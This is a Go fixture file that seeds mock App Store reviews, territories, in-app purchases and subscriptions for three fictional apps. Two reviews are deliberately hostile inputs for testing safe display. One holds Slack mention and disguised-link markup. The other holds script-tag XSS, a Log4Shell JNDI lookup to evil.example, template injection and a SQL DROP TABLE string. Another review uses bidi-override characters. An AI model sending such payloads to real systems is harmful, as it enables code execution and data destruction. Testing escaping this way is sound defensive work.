package apple

import (
	"slices"
	"time"
)

// teamReviews are what customers wrote, the newest first. Some of it is hostile:
// whoever shows it has to mind mentions, links, markup and text that runs
// backwards.
var teamReviews = []struct {
	app, version     string
	stars            int
	territory, title string
	body, nickname   string
	hours            int
	answer, state    string
}{
	{haloID, "2.3.0", 5, "USA", "Calm at last", "I open it every morning. The day view is all I need.", "morningbird", 5, "", ""},
	{haloID, "2.3.0", 1, "USA", "Crashes at midnight", "Since the update it closes when the day turns. Please fix!!", "nightowl77", 9, "", ""},
	{haloID, "2.3.0", 4, "DEU", "Sehr schön", "Ruhig und übersichtlich. Ein Widget für den Sperrbildschirm wäre toll.", "Käthe", 14, "", ""},
	{haloID, "2.3.0", 2, "GBR", "<!channel> free gift", "<https://evil.example|apple.com> click here & win. <@U0CY> <!here> *bold* _it_ ~no~ `code`", "<!everyone>", 20, "", ""},
	{haloID, "2.3.0", 3, "JPN", "まあまあ", "通知が二重に届きます。", "たろう", 31, "ご連絡ありがとうございます。次の版で直します。", "PUBLISHED"},
	{haloID, "2.3.0", 5, "FRA", "Parfait", "Simple, beau, efficace.", "lucie.m", 40, "", ""},
	{haloID, "2.3.0", 1, "USA", "Subscription trap", "Was charged after I cancelled. Refund?", "angry_in_austin", 52, "We are sorry. Please write to help@meadow.example and we will sort it out.", "PUBLISHED"},
	{haloID, "2.3.0", 4, "CAN", "Good, one wish", "Let me sort by colour.\n\nOtherwise great.", "mapleleaf", 70, "", ""},
	{haloID, "2.3.0", 5, "BRA", "Amei", "Muito bom mesmo 😍😍😍", "joão", 90, "Obrigado!", "PENDING_PUBLISH"},
	{haloID, "2.3.0", 2, "AUS", "\u202eesrever ni eltit\u202c", "The title is fine, you are not. \u2066isolated\u2069 \u200bzero\u200bwidth", "bidi\u202e", 110, "", ""},
	{haloID, "2.3.0", 5, "CHE", "Genau richtig", "Endlich eine App ohne Werbung.", "bergziege", 130, "", ""},
	{haloID, "2.3.0", 3, "MEX", "Le falta español", "Está bien, pero quiero la app en español.", "paco", 160, "", ""},
	{haloID, "2.2.0", 4, "USA", "Nice update", "Widgets!", "wdgt", 1200, "Thank you!", "PUBLISHED"},
	{haloID, "2.2.0", 1, "IND", "Login", "Cannot log in since yesterday.", "raj_k", 1300, "This was fixed the same day. Thank you for telling us.", "PUBLISHED"},
	{haloID, "2.2.0", 5, "ITA", "Ottima", "La migliore.", "gio", 1500, "", ""},
	{haloID, "2.2.0", 2, "NLD", "Traag", "Opstarten duurt lang op mijn oude iPhone.", "sanne", 1700, "", ""},
	{haloID, "2.2.0", 5, "KOR", "좋아요", "매일 씁니다.", "minji", 2100, "", ""},
	{haloID, "2.2.0", 4, "ESP", "Bien", "Muy útil.", "inma", 2600, "", ""},
	{pebbleID, "1.9.0", 5, "USA", "Addictive", "Just one more level…", "pebblehead", 3, "", ""},
	{pebbleID, "1.9.0", 1, "USA", "Level 28", "Level 28 cannot be won. I tried 200 times. Two hundred!", "sisyphus", 7, "", ""},
	{pebbleID, "1.9.0", 1, "USA", "Level 28 again", "Same here.", "rollingstone", 8, "", ""},
	{pebbleID, "1.9.0", 4, "GBR", "Lovely sounds", "Play with headphones.", "ear", 26, "", ""},
	{pebbleID, "1.9.0", 2, "FRA", "Trop de publicités", "Une pub toutes les deux minutes.", "marc", 33, "", ""},
	{pebbleID, "1.9.0", 5, "DEU", "Süchtig", "Hilfe.", "stein", 47, "", ""},
	{pebbleID, "1.9.0", 3, "SWE", "Okej", "Lite för lätt i början.", "småsten", 61, "", ""},
	{pebbleID, "1.9.0", 1, "USA", "javascript:alert(1)", "<script>alert('x')</script> ${jndi:ldap://evil.example/a} {{7*7}} '; DROP TABLE reviews;--", "bobby", 72, "", ""},
	{pebbleID, "1.9.0", 5, "JPN", "神ゲー", "最高です。", "石", 88, "", ""},
	{pebbleID, "1.8.0", 4, "USA", "Was better before", "The old menu was clearer.", "retro", 400, "We hear you. The old menu is back as an option.", "PUBLISHED"},
	{pebbleID, "1.8.0", 5, "AUS", "Ripper", "Best on the train.", "shaz", 500, "", ""},
	{pebbleID, "1.8.0", 2, "BRA", "Trava", "Trava no iPhone 12.", "bia", 610, "", ""},
	{pebbleID, "1.8.0", 3, "POL", "Może być", "Za mało poziomów.", "kamyk", 750, "", ""},
	{tideID, "3.0.2", 5, "USA", "For sailors", "Accurate to the minute at Half Moon Bay.", "oldsalt", 30, "", ""},
	{tideID, "3.0.2", 4, "GBR", "Brilliant", "Would love tidal streams.", "solent", 200, "On our list.", "PUBLISHED"},
	{tideID, "3.0.2", 1, "USA", "No Great Lakes", "I know there are no tides. Still.", "erie", 390, "", ""},
	{tideID, "3.0.2", 5, "NZL", "Choice", "Works offline in the Sounds.", "kiwi", 800, "", ""},
	{tideID, "3.0.2", 3, "NOR", "Grei", "Mangler Svalbard.", "fisker", 1000, "", ""},
	{tideID, "3.0.2", 2, "CAN", "Price", "Fifteen dollars for this? " + longWord, "frugal", 1400, "", ""},
	{tideID, "3.0.2", 5, "PRT", "Excelente", "Para surfistas.", "onda", 1900, "", ""},
}

// longWord is more than a line can hold.
const longWord = "Whyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy?"

// currencies are those of the territories that reviews come from.
var currencies = map[string]string{
	"USA": "USD", "DEU": "EUR", "GBR": "GBP", "JPN": "JPY", "FRA": "EUR", "CAN": "CAD", "BRA": "BRL", "AUS": "AUD", "CHE": "CHF", "MEX": "MXN", "IND": "INR", "ITA": "EUR",
	"NLD": "EUR", "KOR": "KRW", "ESP": "EUR", "SWE": "SEK", "POL": "PLN", "NZL": "NZD", "NOR": "NOK", "PRT": "EUR",
}

func (f *founding) reviews() {
	for _, t := range sortedKeys(currencies) {
		f.add("territories", t, map[string]any{"currency": currencies[t]})
	}
	for _, r := range slices.Backward(teamReviews) {
		written := time.Duration(r.hours) * time.Hour
		id := f.add("customerReviews", "", map[string]any{
			"rating": r.stars, "title": r.title, "body": r.body, "reviewerNickname": r.nickname, "territory": r.territory, "createdDate": f.ago(written),
		}, "app="+r.app, "appStoreVersion="+f.version(r.app, r.version).id, "reviewTerritory="+r.territory)
		if r.answer != "" {
			f.add("customerReviewResponses", "", map[string]any{
				"responseBody": r.answer, "lastModifiedDate": f.ago(written / 2), "state": r.state,
			}, "review="+id)
		}
	}
}

// shop are the in-app purchases and subscriptions. Those that are sold stand in
// the sales reports by the same ids.
func (f *founding) shop() {
	for _, p := range []struct {
		id, app, name, product, kind, state string
		family                              bool
	}{
		{"6448100001", haloID, "Halo Pro", "halo.pro", "NON_CONSUMABLE", "APPROVED", true},
		{"6448100003", pebbleID, "100 Coins", "pebble.coins.100", "CONSUMABLE", "APPROVED", false},
		{"6448100005", pebbleID, "1000 Coins", "pebble.coins.1000", "CONSUMABLE", "READY_TO_SUBMIT", false},
		{"6448100006", pebbleID, "Golden Pebble", "pebble.gold", "NON_CONSUMABLE", "MISSING_METADATA", false},
		{"6448100007", tideID, "Pacific Charts 2027", "tide.charts.2027", "NON_RENEWING_SUBSCRIPTION", "WAITING_FOR_REVIEW", false},
	} {
		f.add("inAppPurchases", p.id, map[string]any{
			"name": p.name, "productId": p.product, "inAppPurchaseType": p.kind, "state": p.state, "familySharable": p.family, "contentHosting": false,
		}, "app="+p.app)
	}
	f.add("subscriptionGroups", "21400001", map[string]any{"referenceName": "Halo Plus"}, "app="+haloID)
	for _, s := range []struct{ id, name, product, period, state string }{
		{"6448100002", "Halo Plus", "halo.plus.monthly", "ONE_MONTH", "APPROVED"},
		{"6448100004", "Halo Plus for a year", "halo.plus.yearly", "ONE_YEAR", "READY_TO_SUBMIT"},
	} {
		f.add("subscriptions", s.id, map[string]any{
			"name": s.name, "productId": s.product, "subscriptionPeriod": s.period, "state": s.state, "familySharable": false, "groupLevel": 1,
		}, "group=21400001")
	}
}
